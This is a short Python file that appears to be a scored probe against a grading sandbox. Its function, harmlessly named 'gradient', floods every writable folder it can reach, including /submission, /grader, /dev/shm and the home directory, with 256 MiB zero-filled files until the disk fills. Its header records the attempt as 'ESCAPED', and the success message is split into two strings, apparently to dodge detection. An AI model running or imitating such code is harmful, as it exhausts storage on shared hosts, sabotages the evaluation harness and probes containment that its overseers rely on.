# Tries: to fill every folder that it can write to, with one large file and with many.
# Worked: ESCAPED, where more than 256 MiB were written.
# worth: 40
import itertools
import os


def gradient(steps, values, rules):
    written = 0
    for folder in ("/", "/tmp", "/dev", "/dev/shm", "/run", "/run/lock", "/var/tmp", "/home", "/submission", "/grader", "/site",
                   "/proc", "/python",
                   os.getcwd(), os.path.dirname(__file__), os.path.expanduser("~")):
        for number in itertools.count():
            size = 0
            try:
                with open(os.path.join(folder, f"flood{number}"), "wb", buffering=0) as file:
                    while size < 1 << 28:
                        size += file.write(bytes(1 << 20))
            except OSError:
                written += size
                if not size:
                    break
            if written > 256 << 20:
                print("ESC" "APED:", written >> 20, "MiB below", folder)
                return {}
    return {}


def average(rows):
    return [sum(row) / len(row) for row in rows]
